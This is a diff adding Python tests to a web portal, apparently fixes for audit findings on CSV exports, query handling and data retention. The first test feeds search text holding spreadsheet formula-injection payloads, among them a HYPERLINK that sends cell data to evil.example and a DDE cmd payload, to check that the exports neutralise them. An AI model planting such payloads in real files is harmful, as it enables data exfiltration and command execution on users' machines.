@@ -279,3 +279,62 @@ def test_with_a_helpdesk_there_is_no_banner(app_factory):
     client = app.test_client()
     login(client)
     assert "No helpdesk is connected" not in client.get("/admin/handoffs").get_data(as_text=True)
+
+
+def test_csv_exports_neutralise_formulas(app):
+    """M4: anonymous search text reached the exports as live spreadsheet formulas."""
+    client = app.test_client()
+    attacks = ['=HYPERLINK("http://evil.example/?x="&A1,"Open report")', "@SUM(1+1)*cmd|'/C calc'!A0",
+               "+1+1", "-2+3", "\tcmd", "\rcmd"]
+    for text in attacks:
+        client.get("/en/search", query_string={"q": text})
+    app.extensions["analytics"].flush()
+    login(client)
+    for name in ("top_searches", "zero_result_searches"):
+        rows = list(csv.reader(io.StringIO(client.get(f"/admin/export/{name}.csv").get_data(as_text=True))))
+        searches = [row[0] for row in rows[1:]]
+        assert searches, name
+        assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows[1:] for cell in row)
+        assert all(int(row[1]) >= 1 for row in rows[1:])  # counts stay numbers
+        if name == "top_searches":
+            assert any(cell.lower().startswith("'=hyperlink") for cell in searches)
+            assert "'+1+1" in searches and "'@sum(1+1)*cmd|'/c calc'!a0" in searches
+
+
+@pytest.mark.parametrize("query", ["?name=x", "?_method=POST", "?_scheme=https&_external=1&_anchor=x",
+                                   "?from=0001-01-01", "?to=9999-12-31", "?from=0001-01-01&to=9999-12-31"])
+def test_odd_query_strings_never_give_500(app, query):
+    """L5: the dashboard passed the whole query string to url_for, and dates overflowed."""
+    client = app.test_client()
+    login(client)
+    response = client.get("/admin/" + query)
+    assert response.status_code == 200
+    html = response.get_data(as_text=True)
+    assert "_scheme" not in html and "https://localhost/admin/export" not in html
+    assert client.get("/admin/export/top_searches.csv" + query).status_code == 200
+
+
+def test_purge_refuses_absurd_ages(app):
+    bad = app.test_cli_runner().invoke(args=["analytics", "purge", "--older-than", "99999999y"])
+    assert bad.exit_code != 0 and "100 years" in bad.output
+
+
+def test_delivered_contact_requests_are_purged_after_the_retention(app):
+    """L6: handoffs (names, e-mails, messages) were never deleted."""
+    from portal.handoff.store import create_handoff
+    from portal.models import Handoff, OutboxMessage
+
+    old = utcnow() - dt.timedelta(days=200)
+    with app.extensions["db"].session() as session:
+        cases = (("delivered", old), ("failed", old), ("pending", old), ("delivered", utcnow()))
+        for status, created in cases:
+            handoff = create_handoff(session, locale="en", topic="t", channel="form", name="Anna",
+                                     email="anna@example.com", message="A message", order_number=None,
+                                     context={}, created_at=created)
+            handoff.status = status
+    result = app.test_cli_runner().invoke(args=["handoff", "purge"])  # default: 90 days
+    assert result.exit_code == 0 and "deleted 1 delivered" in result.output
+    with app.extensions["db"].session() as session:
+        kept = sorted(h.status for h in session.scalars(select(Handoff)))
+        assert kept == ["delivered", "failed", "pending"]
+        assert len(session.scalars(select(OutboxMessage)).all()) == 3
